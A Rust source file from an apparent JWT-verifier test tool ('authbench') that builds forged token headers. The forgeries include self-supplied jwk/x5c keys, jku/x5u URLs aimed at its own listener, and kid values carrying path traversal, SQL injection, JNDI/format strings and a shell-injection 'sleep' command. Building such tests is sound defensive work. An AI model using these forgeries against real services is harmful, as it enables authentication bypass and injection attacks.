//! Forgeries about the header: where the key is, which it is, and what has to be understood.

use super::is_access_token;
use super::twin::{good, good_token, header, header_signed_by, random_text, twin, unforgeable};
use crate::scheme::jose::key::{mac, strangers};
use crate::scheme::jose::{Alg, Jws, Members, SigningKey};
use crate::scheme::{Forged, Forgery, ForgeryContext};
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use serde_json::{Value, json};

/// Seconds that the forgery `kid-shell` asks a shell to sleep.
pub const SLEEP: u64 = 3;

/// A file that every Linux has, with the same content everywhere.
const KNOWN_FILE: &str = "../../../../../../../proc/sys/kernel/ostype";

/// Told with one valid token.
pub(super) const WITH_A_TOKEN: &[Forgery] = &[
    // --- a key that the token brings along (RFC 8725 §3.8)
    Forgery::new("header-jwk", "a key of its own in the header, and its signature", |context| {
        own_key(context, |header, key| {
            header.remove("kid");
            header.set("jwk", jwk_under(header, key));
        })
    }),
    Forgery::new(
        "header-jwk-kid",
        "a key of its own in the header under the trusted kid, and its signature",
        |context| {
            own_key(context, |header, key| {
                let mut jwk = jwk_under(header, key);
                if let Some(kid) = header.value("kid") {
                    jwk["kid"] = kid;
                }
                header.set("jwk", jwk);
            })
        },
    ),
    Forgery::new("header-x5c", "a certificate of its own in the header, and its signature", |context| {
        let alg = asymmetric(&good(context)?);
        let Some(certificate) = strangers(alg).certificate() else {
            return unforgeable(format!("authbench makes no certificate for a key of {}", alg.name()));
        };
        own_key(context, |header, _| {
            header.remove("kid");
            header.set("x5c", vec![STANDARD.encode(certificate)]);
        })
    }),
    // --- a kid that wants to be more than a name (RFC 8725 §3.10)
    Forgery::new("kid-dev-null", "a kid that is the path of an empty file, HS256 with an empty key", |context| {
        kid_with_secret(context, "../../../../../../../dev/null", b"")
    }),
    Forgery::new(
        "kid-known-file",
        "a kid that is the path of a file whose content everybody knows, HS256 with that content",
        |context| kid_with_secret(context, KNOWN_FILE, b"Linux\n"),
    ),
    Forgery::new(
        "kid-known-file-trimmed",
        "a kid that is the path of a file whose content everybody knows, HS256 with that content and no final newline",
        |context| kid_with_secret(context, KNOWN_FILE, b"Linux"),
    ),
    Forgery::new("kid-sql", "a kid that selects a known secret, HS256 with it", |context| {
        kid_with_secret(context, "x' UNION SELECT 'authbench' -- ", b"authbench")
    }),
    Forgery::new("kid-format", "a kid of format directives", |context| kid(context, &json!("%s%n%x{0}${jndi:x}"))),
    Forgery::new("kid-array", "an array for a kid", |context| kid(context, &json!(["a"]))),
    Forgery::new("kid-object", "an object for a kid", |context| kid(context, &json!({ "$ne": null }))),
    Forgery::new("kid-number", "a number for a kid", |context| kid(context, &json!(5))),
    Forgery::new("kid-empty", "an empty kid", |context| kid(context, &json!(""))),
    Forgery::new("kid-long", "a kid of 64 KiB", |context| kid(context, &json!("k".repeat(64 * 1024)))),
    Forgery::new("kid-shell", "a kid that asks a shell to sleep", |context| {
        kid(context, &json!(format!("k;sleep {SLEEP};`sleep {SLEEP}`$(sleep {SLEEP})|sleep {SLEEP}")))
    }),
    Forgery::new("kid-random", "a kid that nobody published", |context| {
        let random = random_text(context);
        kid(context, &json!(random))
    }),
];

/// Told with a listener of authbench: whoever follows the address is seen.
pub(super) const WITH_A_LISTENER: &[Forgery] = &[
    Forgery::new("jku", "a jku that leads to a key of its own, and its signature", |context| {
        address(context, "jku", |listener, _| format!("{listener}/jwks.json"))
    }),
    Forgery::new("x5u", "an x5u that leads to a certificate of its own, and its signature", |context| {
        address(context, "x5u", |listener, _| format!("{listener}/certificate.pem"))
    }),
    Forgery::new("jku-user", "a jku with the trusted host as user information", |context| {
        address(context, "jku", |listener, trusted| {
            format!("{}/jwks.json", listener.replacen("://", &format!("://{trusted}@"), 1))
        })
    }),
    Forgery::new("jku-fragment", "a jku with the trusted host in its fragment", |context| {
        address(context, "jku", |listener, trusted| format!("{listener}/jwks.json#{trusted}"))
    }),
    Forgery::new("jku-query", "a jku with the trusted host in its query", |context| {
        address(context, "jku", |listener, trusted| format!("{listener}/jwks.json?{trusted}/.well-known/jwks.json"))
    }),
    Forgery::new("kid-url", "a kid that is an address", |context| {
        let listener = listener(context)?.to_owned();
        kid(context, &json!(format!("{listener}/kid")))
    }),
];

/// Told with the issuer's key.
pub(super) const WITH_THE_KEY: &[Forgery] = &[
    // --- extensions that must be understood (RFC 7515 §4.1.11)
    Forgery::new("crit-unknown", "a critical extension that nobody understands", |context| {
        header(context, &["crit", "authbench"], |header, _| {
            header.set("crit", vec!["authbench"]);
            // some libraries take texts alone for further members
            header.set("authbench", "1");
        })
    }),
    Forgery::new("crit-missing", "a critical extension that is not in the header", |context| {
        header(context, &["crit"], |header, _| header.set("crit", vec!["authbench"]))
    }),
    Forgery::new("crit-claim", "a claim as a critical extension", |context| {
        header(context, &["crit"], |header, _| header.set("crit", vec!["exp"]))
    }),
    Forgery::new("crit-b64", "a payload that says it is not encoded and is", |context| {
        header(context, &["crit", "b64"], |header, _| {
            header.set("crit", vec!["b64"]);
            header.set("b64", false);
        })
    }),
    Forgery::new("crit-empty", "an empty list of critical extensions", |context| {
        header(context, &["crit"], |header, _| header.set("crit", json!([])))
    }),
    Forgery::new("crit-registered", "alg as a critical extension", |context| {
        header(context, &["crit"], |header, _| header.set("crit", vec!["alg"]))
    }),
    Forgery::new("crit-text", "text for a list of critical extensions", |context| {
        header(context, &["crit"], |header, _| header.set("crit", "authbench"))
    }),
    // --- a kid that names no key
    Forgery::new("kid-unknown", "a right signature under a kid that nobody published", |context| {
        header(context, &["kid"], |header, _| header.set("kid", "authbench-unknown"))
    }),
    Forgery::new("kid-absent", "a right signature without a kid", |context| {
        header(context, &["kid"], |header, _| header.remove("kid"))
    }),
    // --- types (RFC 8725 §3.11)
    Forgery::new("typ-jwt", "the type JWT", |context| typ(context, Some("JWT"))),
    Forgery::new("typ-absent", "no type", |context| typ(context, None)),
    Forgery::new("typ-logout", "the type of a logout token", |context| typ(context, Some("logout+jwt"))),
    Forgery::new("typ-dpop", "the type of a DPoP proof", |context| typ(context, Some("dpop+jwt"))),
    Forgery::new("typ-secevent", "the type of a security event", |context| typ(context, Some("secevent+jwt"))),
    Forgery::new("typ-introspection", "the type of an introspection answer", |context| {
        typ(context, Some("token-introspection+jwt"))
    }),
    // of tokens that are of another type themselves
    Forgery::new("type-logout", "the type of a logout token", |context| type_beside_others(context, "logout+jwt")),
    Forgery::new("type-dpop", "the type of a DPoP proof", |context| type_beside_others(context, "dpop+jwt")),
    Forgery::new("type-secevent", "the type of a security event", |context| {
        type_beside_others(context, "secevent+jwt")
    }),
    // of tokens of any type, unlike the others
    Forgery::new("type-unknown", "a type that does not exist", |context| typ(context, Some("authbench+jwt"))),
    Forgery::new("typ-long", "the type as a media type, application/at+jwt", |context| {
        typ(context, Some("application/at+jwt"))
    }),
    Forgery::new("typ-short", "the type at+jwt", |context| typ(context, Some("at+jwt"))),
    Forgery::new("typ-upper", "the type in upper case, AT+JWT", |context| typ(context, Some("AT+JWT"))),
    // --- a name twice (RFC 7515 §4)
    Forgery::new("dup-alg", "alg twice, the right one first and none last", |context| {
        header(context, &["alg"], |header, _| header.push_raw("alg", "\"none\""))
    }),
];

/// Told with two keys of the issuer.
pub(super) const WITH_TWO_KEYS: &[Forgery] =
    &[Forgery::new("kid-of-another", "the kid of another key of the issuer than the one that signed", |context| {
        let kid = context.kit.second_key.as_ref().and_then(|key| key.kid.clone());
        let Some(kid) = kid else { return unforgeable("`material.second_key` has no kid") };
        header(context, &["kid"], |header, _| header.set("kid", kid))
    })];

/// Another type than that of a token which is of no type that only access tokens have.
fn type_beside_others(context: &mut ForgeryContext<'_>, other: &str) -> Forged {
    if good_token(context)?.header.text("typ").is_some_and(|typ| is_access_token(&typ)) {
        return unforgeable("the tokens are of the type at+jwt: other types are tried as forgeries of their own");
    }
    typ(context, Some(other))
}

fn typ(context: &mut ForgeryContext<'_>, typ: Option<&str>) -> Forged {
    header(context, &["typ"], |header, _| match typ {
        Some(typ) => header.set("typ", typ),
        None => header.remove("typ"),
    })
}

/// The good token with another kid; its signature, which no longer fits, is kept.
fn kid(context: &ForgeryContext<'_>, kid: &Value) -> Forged {
    let signature = good(context)?.signature;
    header_signed_by(context, &["kid"], |header| header.set("kid", kid.clone()), |_| signature)
}

fn kid_with_secret(context: &ForgeryContext<'_>, kid: &str, secret: &[u8]) -> Forged {
    let change = |header: &mut Members| {
        header.set("alg", "HS256");
        header.set("kid", kid);
    };
    header_signed_by(context, &["alg", "kid"], change, |input| mac(Alg::HS256, secret, input))
}

/// The algorithm of the good token, or one with a public half where that has none.
fn asymmetric(good: &Jws) -> Alg {
    match good.alg() {
        None | Some(Alg::HS256 | Alg::HS384 | Alg::HS512) => Alg::RS256,
        Some(alg) => alg,
    }
}

fn own_key(context: &ForgeryContext<'_>, change: impl FnOnce(&mut Members, &SigningKey)) -> Forged {
    let alg = asymmetric(&good(context)?);
    let key = strangers(alg);
    let change = |header: &mut Members| {
        header.set("alg", alg.name());
        change(header, key);
    };
    header_signed_by(context, &["alg", "kid", "jwk", "x5c"], change, |input| key.sign_as(alg, input))
}

/// The public half of a key as one for the algorithm of the header: a key for another would be refused for that.
fn jwk_under(header: &Members, key: &SigningKey) -> Value {
    let mut jwk = key.public_jwk().unwrap_or_default();
    if let Some(alg) = header.text("alg") {
        jwk["alg"] = json!(alg);
    }
    jwk
}

fn listener<'k>(context: &ForgeryContext<'k>) -> Result<&'k str, crate::scheme::Unforgeable> {
    let kit: &'k super::Kit = context.kit;
    match kit.listener.as_deref() {
        Some(listener) => Ok(listener),
        None => unforgeable("there is no listener that the target can reach"),
    }
}

fn address(context: &ForgeryContext<'_>, member: &str, at: impl FnOnce(&str, &str) -> String) -> Forged {
    let alg = asymmetric(&good(context)?);
    let listener = listener(context)?;
    let trusted = trusted_host(context)?;
    let key = strangers(alg);
    let change = |header: &mut Members| {
        header.set("alg", alg.name());
        header.set("kid", "stranger");
        header.set(member, at(listener, &trusted));
    };
    header_signed_by(context, &["alg", "kid", member], change, |input| key.sign_as(alg, input))
}

/// The host of the issuer, or a name in its place.
fn trusted_host(context: &ForgeryContext<'_>) -> Result<String, crate::scheme::Unforgeable> {
    let issuer = good_token(context)?.claims.text("iss").unwrap_or_default();
    let host = url::Url::parse(&issuer).ok().and_then(|url| url.host_str().map(str::to_owned));
    Ok(host.unwrap_or_else(|| "issuer.invalid".to_owned()))
}

/// The key set that a listener shows to whoever follows an address: keys of nobody's.
pub fn strangers_keys() -> Value {
    let algs = [Alg::RS256, Alg::ES256, Alg::ES384, Alg::EdDSA];
    let keys: Vec<Value> = algs.into_iter().filter_map(|alg| strangers(alg).public_jwk()).collect();
    json!({ "keys": keys })
}

/// A token under a new key of the issuer's, for rotation.
///
/// # Errors
/// When the good token cannot be copied.
pub fn under_key(context: &mut ForgeryContext<'_>, key: &SigningKey) -> Result<String, crate::scheme::Unforgeable> {
    let mut fresh = twin(context)?.token;
    if let Some(kid) = &key.kid {
        fresh.header.set("kid", kid.as_str());
    }
    Ok(fresh.signed(|input| key.sign(input)).text())
}
